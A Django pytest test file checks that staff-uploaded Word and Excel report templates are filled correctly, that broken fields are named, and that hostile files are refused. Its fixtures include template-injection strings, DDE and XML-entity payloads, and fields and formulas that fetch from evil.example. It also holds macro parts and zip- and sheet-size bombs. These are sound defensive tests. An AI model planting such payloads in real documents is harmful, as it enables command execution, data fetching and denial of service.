"""Templates that staff bring: filled, refused with the field and its place where broken, refused where hostile."""

import zipfile
from datetime import date
from io import BytesIO
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from docx import Document
from openpyxl import Workbook, load_workbook

from crm.models import Unit, User
from reports.actions.periodic_papers import default_title, paper_of
from reports.actions.report_templates import archive_report_template, save_report_template
from reports.choices import FileFormat, PeriodKind
from reports.documents.checking import check_template
from reports.documents.ready_excel import ready_excel
from reports.documents.ready_word import ready_word
from reports.documents.render import draw, excel_of, word_of
from reports.documents.uploads import MOST_UNPACKED
from reports.models import PeriodicReport, ReportTemplate
from tests.factories import make_exchange, make_partner

pytestmark = pytest.mark.django_db


def word(*paragraphs: str) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    return _saved(document)


def sheet(*cells: str) -> bytes:
    book = Workbook()
    for number, text in enumerate(cells, start=1):
        book.active.cell(number, 1, text)
    return _saved(book)


def _saved(document: Any) -> bytes:
    file = BytesIO()
    document.save(file)
    return file.getvalue()


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """The same file with one part put in, or put in the place of its own."""
    written = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as source, zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info, source.read(info.filename))
        target.writestr(name, part)
    return written.getvalue()


def refused(content: bytes, file_format: FileFormat = FileFormat.DOCX) -> list[str]:
    with pytest.raises(ValidationError) as error:
        check_template(content, file_format)
    return [str(each.code) for each in error.value.error_list] + error.value.messages


@pytest.fixture
def report(nghe_an: Unit, an: User) -> PeriodicReport:
    make_exchange(make_partner(), by=an, on=date(2025, 3, 1), kind="DELEGATION_OUT", direction="out", people_count=4)
    made = PeriodicReport(unit=nghe_an, period_kind=PeriodKind.HALF_YEAR, period_from=date(2025, 1, 1), period_to=date(2025, 7, 1))
    made.title = default_title(made)
    return made


def test_the_ready_templates_pass_their_own_check(reference_data: None) -> None:
    check_template(ready_word(), FileFormat.DOCX)
    check_template(ready_word(with_year_before=False), FileFormat.DOCX)
    check_template(ready_excel(), FileFormat.XLSX)


def test_a_template_of_staff_is_filled_in_the_place_of_the_ready_one(report: PeriodicReport) -> None:
    paper = paper_of(report, today=date(2025, 8, 1))
    mine = ReportTemplate(
        format="docx", content=word("Đoàn ra: {{ value.delegations_out.now }} ({{ value.people_out.now }} người)", "{{ agency }}")
    )
    words = [paragraph.text for paragraph in Document(BytesIO(word_of(paper, mine))).paragraphs]
    assert words == ["Đoàn ra: 1 (4 người)", "Liên hiệp các tổ chức hữu\u00a0nghị tỉnh Nghệ An"]
    book = ReportTemplate(format="xlsx", content=sheet("{{ agency }}", "{{ figure.label }}: {{ figure.now }}", "cuối"))
    filled = load_workbook(BytesIO(excel_of(paper, book))).active
    column = [row[0].value for row in filled.iter_rows()]
    assert column[0] == "Liên hiệp các tổ chức hữu nghị tỉnh Nghệ An"
    assert column[-1] == "cuối"
    assert len(column) == 2 + len([line for group in paper.figures.summary for line in group.lines])


@pytest.mark.parametrize(
    ("text", "field", "hint"),
    [
        ("{{ titel }}", "titel", "title"),
        ("{{ value.delegation_out.now }}", "value.delegation_out", "value.delegations_out"),
        ("{% for x in figures %}{{ x.nwo }}{% endfor %}", "x.nwo", "x.now"),
        ("{{ figures.nwo }}", "figures.nwo", "figures.now"),
    ],
)
def test_a_broken_field_is_named_with_its_place_and_what_may_be_meant(reference_data: None, text: str, field: str, hint: str) -> None:
    told = "\n".join(refused(word("Dòng đầu", f"Ở đây {text}")))
    assert field in told
    assert f"“{hint}”" in told
    assert " 2" in told
    assert "A2" in "\n".join(refused(sheet("Dòng đầu", f"Ở đây {text}"), FileFormat.XLSX))


@pytest.mark.parametrize(
    "text",
    [
        "{{ agency.upper() }}", "{{ ''.__class__.__mro__ }}", "{{ 9 ** 99999999 }}", "{{ 'a' * 999999999 }}", "{{ cycler }}",
        "{% set x = 1 %}", "{% include 'x' %}", "{% import 'x' as y %}", "{% macro f() %}{% endmacro %}", "{{ agency|attr('x') }}",
        "{{ self }}", "{{ agency", "{% for x in %}", "{% for a in figures %}{{ a.now }}",
    ],
)  # fmt: skip
def test_a_template_can_only_name_fields(reference_data: None, text: str) -> None:
    assert refused(word(text))
    assert refused(sheet(text), FileFormat.XLSX)


def test_text_of_a_report_is_never_read_as_a_template(report: PeriodicReport) -> None:
    report.title = "{{ agency }} <w:p/> & {% for x in figures %}"
    paper = paper_of(report, today=date(2025, 8, 1))
    mine = ReportTemplate(format="docx", content=word("{{ title }}"))
    assert [paragraph.text for paragraph in Document(BytesIO(word_of(paper, mine))).paragraphs] == [report.title]


@pytest.mark.parametrize(
    ("name", "part", "code"),
    [
        ("word/vbaProject.bin", b"x", "macros"),
        ("word/embeddings/oleObject1.bin", b"x", "macros"),
        ("word/afchunk.mht", b"x", "embedded"),
        ("word/evil.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "xml"),
        ("word/evil.xml", '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16"), "xml"),
        ("word/evil.xml", b"<a><instrText>DDEAUTO c:\\windows\\cmd</instrText></a>", "fetches"),
        ("word/evil.xml", b"<a><instrText>D</instrText><instrText>&#68;E c:\\x</instrText></a>", "fetches"),
        ("word/evil.xml", b'<a><fldSimple instr="INCLUDEPICTURE http://evil.example/x"/></a>', "fetches"),
        ("word/evil.dat", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "xml"),
        ("word/evil.xml", b'<a><gridSpan val="900000000"/></a>', "too-wide"),
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="t" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
            "external",
        ),
        (
            "word/_rels/SETTINGS.XML.RELS",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="page.htm"/></Relationships>',
            "embedded",
        ),
        ("word/big.xml", b" " * (MOST_UNPACKED + 1), "bomb"),
    ],
)
def test_macros_links_document_types_and_bombs_are_refused(reference_data: None, name: str, part: bytes, code: str) -> None:
    assert code in refused(with_part(word("{{ title }}"), name, part))


@pytest.mark.parametrize(
    ("part", "code"),
    [
        (b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>', "too-wide"),
        (b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>', "too-wide"),
        (b'</sheetData><hyperlinks><hyperlink ref="A1:XFD1048576" location="a"/></hyperlinks>', "too-wide"),
        (b'<row r="9"><c r="A9"><f>_xlfn.&#87;EBSERVICE("http://evil.example")</f></c></row></sheetData>', "fetches"),
        (b'<row r="9"><c r="A9"><f>_xlfn.IMAGE("http://evil.example")</f></c></row></sheetData>', "fetches"),
    ],
)
def test_a_small_workbook_that_would_be_laid_out_without_end_or_fetches_is_refused(reference_data: None, part: bytes, code: str) -> None:
    usual = sheet("{{ title }}")
    with zipfile.ZipFile(BytesIO(usual)) as archive:
        content = archive.read("xl/worksheets/sheet1.xml").replace(b"</sheetData>", part)
    assert code in refused(with_part(usual, "xl/worksheets/sheet1.xml", content), FileFormat.XLSX)


def test_what_a_printer_was_set_to_is_no_macro(reference_data: None) -> None:
    check_template(with_part(sheet("{{ title }}"), "xl/printerSettings/printerSettings1.bin", b"x"), FileFormat.XLSX)


@pytest.mark.parametrize(
    "text",
    [
        "{{ title|join(title)|join(title)|join(title)|join(title) }}",
        "{% for letter in title %}{{ letter }}{% endfor %}",
        "{% for a in figures %}{% for b in figures %}{% for c in figures %}x{% endfor %}{% endfor %}{% endfor %}",
        "{{ value.delegations_out.now_number|length }}",
    ],
)
def test_a_template_that_would_grow_without_end_or_fails_while_filled_is_told_so(report: PeriodicReport, text: str) -> None:
    paper = paper_of(report, today=date(2025, 8, 1))
    for content, file_format in ((word(text), FileFormat.DOCX), (sheet(text), FileFormat.XLSX)):
        template = ReportTemplate(format=file_format, content=content)
        with pytest.raises(ValidationError) as error:
            word_of(paper, template) if file_format == FileFormat.DOCX else excel_of(paper, template)
        assert error.value.code == "template"


def test_a_template_archived_meanwhile_gives_way_to_the_usual_one(report: PeriodicReport) -> None:
    paper, archived = paper_of(report, today=date(2025, 8, 1)), timezone.now()
    for content, file_format, make in ((word("mẫu cũ"), FileFormat.DOCX, word_of), (sheet("mẫu cũ"), FileFormat.XLSX, excel_of)):
        template = ReportTemplate(format=file_format, content=content, archived_at=archived)
        assert make(paper, template) == make(paper)


def test_a_field_in_the_properties_of_a_file_does_no_more_than_one_in_its_text(report: PeriodicReport) -> None:
    document = Document()
    document.core_properties.subject = "{{ 'x' * 9 }}"
    with pytest.raises(ValidationError) as error:
        word_of(paper_of(report, today=date(2025, 8, 1)), ReportTemplate(format=FileFormat.DOCX, content=_saved(document)))
    assert error.value.code == "template"


def test_what_is_no_office_file_is_refused(reference_data: None) -> None:
    assert "broken" in refused(b"not a file at all")
    assert "broken" in refused(sheet("x"), FileFormat.DOCX)
    assert "too-large" in refused(b"x" * (2 * 1024 * 1024 + 1))


def test_an_officer_brings_a_template_for_the_own_unit_and_tries_it(
    report: PeriodicReport, nghe_an: Unit, an: User, client: Client
) -> None:
    client.force_login(an)
    file = SimpleUploadedFile("mẫu.docx", ready_word())
    answer = client.post("/reports/report-templates/new/", {"name": "Mẫu Nghệ An", "unit": nghe_an.pk, "file": file, "seen_revision": "1"})
    assert answer.status_code == 302, answer.content.decode()
    template = ReportTemplate.objects.get()
    assert (template.format, template.unit) == ("docx", nghe_an)
    assert "Mẫu Nghệ An" in client.get("/reports/report-templates/").content.decode()
    assert client.get(f"/reports/report-templates/{template.public_id}/file/").content == ready_word()
    sample = client.get(f"/reports/report-templates/{template.public_id}/sample/")
    assert "DỰ THẢO" in "\n".join(paragraph.text for paragraph in Document(BytesIO(sample.content)).paragraphs)


def test_a_report_takes_the_usual_template_again_once_its_own_is_out_of_use(report: PeriodicReport, nghe_an: Unit, an: User) -> None:
    mine = ReportTemplate(name="Mẫu", format=FileFormat.DOCX, unit=nghe_an, content=word("Mẫu riêng"), original_name="mau.docx")
    save_report_template(mine, by=an, check=check_template)
    report.template_docx = mine
    paper = paper_of(report, today=date(2025, 8, 1))
    assert draw(report, paper)[FileFormat.DOCX] == word_of(paper, mine)

    archive_report_template(mine, by=an)

    assert draw(report, paper)[FileFormat.DOCX] == word_of(paper)


def test_a_broken_template_is_refused_on_the_form_with_the_field(nghe_an: Unit, an: User, client: Client) -> None:
    client.force_login(an)
    file = SimpleUploadedFile("mau.docx", word("{{ titel }}"))
    answer = client.post("/reports/report-templates/new/", {"name": "x", "unit": nghe_an.pk, "file": file, "seen_revision": "1"})
    assert answer.status_code == 422
    assert "titel" in answer.content.decode()
    assert not ReportTemplate.objects.exists()


def test_only_the_centre_keeps_templates_for_everybody(nghe_an: Unit, an: User, ha: User, chau: User, client: Client) -> None:
    given = {"name": "Chung", "seen_revision": "1"}
    client.force_login(an)
    assert client.post("/reports/report-templates/new/", {**given, "file": SimpleUploadedFile("m.docx", ready_word())}).status_code == 422
    client.force_login(ha)
    assert client.post("/reports/report-templates/new/", {**given, "file": SimpleUploadedFile("m.docx", ready_word())}).status_code == 302
    client.force_login(chau)
    assert client.post(f"/reports/report-templates/{ReportTemplate.objects.get().public_id}/archive/").status_code == 404
